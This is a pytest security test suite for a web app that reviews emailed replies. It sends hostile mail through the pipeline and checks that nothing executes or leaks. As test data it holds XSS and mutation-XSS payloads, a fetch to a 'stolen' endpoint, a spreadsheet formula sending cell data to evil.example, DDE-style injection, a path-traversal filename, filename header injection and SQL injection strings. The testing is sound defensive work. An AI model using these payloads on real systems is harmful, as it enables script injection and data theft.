"""Replies that want to do harm, taken in through the pipeline and looked at in a real browser: they do nothing."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import httpx
import openpyxl
import pytest
from playwright.sync_api import Page

from tests.make import NOON, make_email, make_raw
from tests.web.conftest import PASSWORD, Running, import_into
from web.accounts import add_account
from web.export import harmless
from web.mail import sanitised
from worker.pipeline import Desk as ReadingDesk

SCRIPT = "<script>window.harmed = 1</script><img src=x onerror='window.harmed = 1'>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>top.harmed = 1</script></svg>'
PAGE = b"<html><script>window.harmed = 1; fetch('http://127.0.0.1:9/stolen')</script></html>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Kenya")'
HTML = f"""
<html><head><style>body {{ background: url(http://127.0.0.1:9/style) }}</style><base href="http://127.0.0.1:9/">
<meta http-equiv="refresh" content="0; url=http://127.0.0.1:9/gone"></head>
<body onload="top.harmed = 1" background="http://127.0.0.1:9/back">{SCRIPT}
<p>Kenya proposes topic (b): definition of key concepts.</p>
<a href="javascript:top.harmed=1" id="bait">click</a><a href="http://127.0.0.1:9/link" ping="http://127.0.0.1:9/ping">go</a>
<form action="http://127.0.0.1:9/form"><input name="password"><button>send</button></form>
<iframe src="http://127.0.0.1:9/frame"></iframe><object data="http://127.0.0.1:9/object"></object>
<img src="http://127.0.0.1:9/pixel.gif"><svg><script>top.harmed = 1</script></svg><math><mi//xlink:href="data:x,<script>1</script>">
</body></html>"""


@pytest.fixture(scope="session")
def hostile_data(tmp_path_factory: pytest.TempPathFactory, desk: ReadingDesk) -> Path:
    mails = [
        make_email(
            f"Kenya proposes topic (b): definition of key concepts. {SCRIPT}",
            subject=f"{SCRIPT} CU 2009/92",
            sender='"<b>Kenya</b> \\"><script>window.harmed=1</script>" <mission@kenya.example>',
            message_id="<script@x>",
            html=HTML,
            attachments=[
                ("<img src=x onerror=harmed=1>.html", "text/html", PAGE),
                ("picture.svg", "image/svg+xml", SVG),
                ("../../../etc/passwd", "text/plain", b"Kenya proposes (c)"),
                ('a"; filename="b.html', "text/plain", b"x"),
                ("broken.pdf", "application/pdf", b"%PDF-1.4 broken"),
                ("bomb.png", "image/png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64),
            ],
        ),
        make_email(
            f"{FORMULA}\n\nKenya proposes topic (c).",
            subject=FORMULA,
            message_id="<formula@x>",
            sender="=cmd|x <a@kenya.example>",
        ),
        make_email(
            "Kenya proposes topic (d). \u202eevil\u202c",
            subject="\u202egnp.exe\u202c CU 2009/92",
            message_id="<bidi@x>",
        ),
    ]
    data = tmp_path_factory.mktemp("hostile") / "data"
    raws = [make_raw(mail, received_at=NOON + timedelta(hours=number)) for number, mail in enumerate(mails)]
    config = import_into(data, raws, desk)
    for name, role in (("ana", "reviewer"), ("root", "administrator")):
        add_account(config.accounts_file, name, role, PASSWORD)
    return data


@pytest.fixture
def desk_hostile(start: Callable[..., Running], hostile_data: Path) -> Running:
    return start(hostile_data)


def digest(desk: Running, message_id: str) -> str:
    return str(desk.rows(f"SELECT sha256 FROM replies WHERE message_id = '{message_id}'")[0]["sha256"])


def test_scripts_do_nothing_on_any_page(desk_hostile: Running, sign_in: Callable[..., Page]) -> None:
    page = sign_in(desk_hostile, "ana")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
    reply = f"/reply/{digest(desk_hostile, '<script@x>')}"
    for path in (
        "/",
        "/replies",
        reply,
        "/review",
        "/areas/b",
        "/new-topics",
        "/states",
        "/search?q=definition",
        f"{reply}/mail",
    ):
        page.goto(desk_hostile.url + path)
        page.evaluate("for (const e of document.querySelectorAll('details')) e.open = true")
        page.wait_for_timeout(150)
        assert page.evaluate("window.harmed") is None, path
    assert [url for url in asked if not url.startswith(desk_hostile.url)] == []


def test_the_mails_own_html_is_shown_without_harm(desk_hostile: Running, sign_in: Callable[..., Page]) -> None:
    page = sign_in(desk_hostile, "ana")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{desk_hostile.url}/reply/{digest(desk_hostile, '<script@x>')}")
    page.get_by_text("The mail’s own layout").first.click()
    frame = page.frame_locator("iframe")
    frame.get_by_text("definition of key concepts").wait_for()
    frame.get_by_text("click", exact=True).click()
    page.wait_for_timeout(200)
    assert page.locator("iframe").get_attribute("sandbox") == ""
    assert page.evaluate("window.harmed") is None
    assert [url for url in asked if not url.startswith(desk_hostile.url)] == []
    assert (
        frame.locator("script, style:not([href]), img, form, iframe, object, svg, base, meta[http-equiv]").count() == 0
    )


@pytest.mark.parametrize(
    "markup",
    [
        "<a href='javascript:alert(1)'>x</a>",
        "<p style='background:url(http://x)'>x</p>",
        "<img src=http://x>",
        "<svg/onload=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<form action=http://x><input>",
        "<link rel=stylesheet href=http://x>",
    ],
)
def test_nothing_that_runs_or_fetches_is_left(markup: str) -> None:
    left = sanitised(markup).lower()
    for word in ("javascript:", "http:", "<img", "<svg", "onerror", "onload", "<style", "<form", "<link", "style="):
        assert word not in left.replace("&lt;", ""), left


def test_attachments_are_downloads_and_nothing_else(desk_hostile: Running) -> None:
    reply = digest(desk_hostile, "<script@x>")
    parts = desk_hostile.rows("SELECT part, name FROM attachments ORDER BY id")
    assert len(parts) == 6
    with desk_hostile.client("ana") as client:
        for item in parts:
            answer = client.get(f"/reply/{reply}/file/{item['part']}")
            assert answer.status_code == 200
            assert answer.headers["content-type"] == "application/octet-stream"
            assert answer.headers["content-disposition"].startswith("attachment; filename=")
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert "sandbox" in answer.headers["content-security-policy"]
            assert "x-evil" not in answer.headers
            for sign in ("/", "<", "\\", "\r"):
                assert sign not in answer.headers["content-disposition"], item["name"]
            drawn = client.get(f"/reply/{reply}/page/{item['part']}/0")
            assert (drawn.status_code, drawn.headers["content-type"]) in (
                (404, drawn.headers["content-type"]),
                (200, "image/png"),
            )
        raw = client.get(f"/reply/{reply}/raw")
        assert raw.headers["content-type"] == "application/octet-stream"
        assert client.get(f"/reply/{reply}/file/9.9").status_code == 404
        assert client.get(f"/reply/{'0' * 64}/raw").status_code == 400


def test_no_cell_is_a_formula(desk_hostile: Running) -> None:
    with desk_hostile.client("root") as client:
        for path in ("/export/replies.csv", "/intake/replies.csv", "/intake.csv?sql=select+subject+from+replies"):
            answer = client.get(path)
            assert answer.status_code == 200, path
            cells = [cell for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))) for cell in row]
            assert "'" + FORMULA in cells, path
            assert not [cell for cell in cells if cell[:1] in "=+-@\t" and cell[:1]], path
        book = openpyxl.load_workbook(io.BytesIO(client.get("/export/replies.xlsx").content))
        assert {cell.data_type for row in book.active.iter_rows() for cell in row} <= {"s", "n"}


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\uff1d1"])
def test_what_a_spreadsheet_calculates_is_quoted(cell: str) -> None:
    assert harmless(cell) == "'" + cell
    assert harmless("a" + cell) == "a" + cell
    assert harmless(-1) == -1


@pytest.mark.parametrize(
    "words",
    [
        "' OR 1=1 --",
        '"; DROP TABLE messages; --',
        "text:definition NEAR(a b) OR *",
        '"unclosed',
        "a AND NOT",
        "%_\\",
        "\x00\x01",
        "<script>window.harmed=1</script>",
        "*" * 5000,
        "章' OR 1=1",
    ],
)
def test_a_search_is_words_and_never_sql(desk_hostile: Running, words: str) -> None:
    with desk_hostile.client("ana") as client:
        answer = client.get("/search", params={"q": words})
        assert answer.status_code == 200
        assert "<script>window" not in answer.text
        for parameter in ("kind", "state", "day", "language", "page", "assignee"):
            assert client.get("/replies", params={parameter: words[:200]}).status_code == 200
    assert len(desk_hostile.rows("SELECT * FROM messages")) == 3


def test_a_form_that_is_too_large_is_refused(desk_hostile: Running) -> None:
    answer = httpx.post(desk_hostile.url + "/sign-in", content=b"x" * 2_000_000)
    assert answer.status_code == 413
